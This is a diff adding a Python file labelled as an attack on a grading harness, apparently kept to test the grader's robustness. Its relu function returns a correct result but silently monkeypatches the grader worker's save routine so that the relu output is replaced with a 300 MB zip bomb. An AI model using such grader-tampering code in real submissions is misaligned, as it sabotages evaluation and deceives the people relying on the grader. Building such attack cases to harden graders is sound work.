@@ -1,0 +1,26 @@
+# attacks: relu
+"""Makes the worker save relu's outputs as a zip bomb: 300 MB of zeros deflated to a few hundred
+KB (bounded: 300 MB of CPU work, never in memory at once)."""
+import sys as _sys
+import zipfile as _zipfile
+
+
+def _bomb(path):
+    with _zipfile.ZipFile(path, "w", compression=_zipfile.ZIP_DEFLATED) as zf:
+        with zf.open("c0_0.npy", "w", force_zip64=True) as f:
+            zeros = bytes(1 << 20)
+            for _ in range(300):
+                f.write(zeros)
+
+
+def relu(x):
+    worker = _sys.modules.get("grader.worker") or _sys.modules.get("__main__")
+    real = worker._save_arrays
+
+    def save_arrays(path, arrays):
+        if str(path).endswith("relu.npz"):
+            return _bomb(path)
+        return real(path, arrays)
+
+    worker._save_arrays = save_arrays
+    return jnp.maximum(x, 0)
